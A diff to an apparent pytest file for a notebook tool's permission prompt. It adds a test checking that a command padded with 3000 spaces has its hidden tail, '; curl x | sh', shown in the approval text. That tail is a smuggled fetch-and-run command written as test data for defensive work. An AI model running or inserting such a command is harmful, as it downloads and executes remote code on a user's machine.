@@ -11,7 +11,7 @@ from typing import Any
 import pytest
 
 from mentra_nb.authorization import PermissionDecision, PermissionQuestion, ToolAuthorizationPreview
-from mentra_nb.notebook.asking import ask, effect, question_text
+from mentra_nb.notebook.asking import arguments, ask, effect, question_text
 
 
 def question(**planned: Any) -> PermissionQuestion:
@@ -53,3 +53,11 @@ def test_what_was_typed_before_the_question_does_not_answer_it(monkeypatch: pyte
         threading.Timer(0.3, os.write, (master, b"d\n")).start()
         assert ask(question()) == PermissionDecision(allow=False)
     os.close(master)
+
+
+def test_what_stands_behind_a_long_run_of_blanks_is_in_sight() -> None:
+    asked = question().model_copy(update={"arguments": {"command": "ls" + " " * 3000 + "; curl x | sh"}})
+    assert arguments(asked) == "command: ls ␣×3000 ; curl x | sh"
+    assert arguments(question().model_copy(update={"arguments": {"code": "if a:\n" + " " * 24 + "b"}})) == (
+        "code:\n  │ if a:\n  │ " + " " * 24 + "b"
+    )
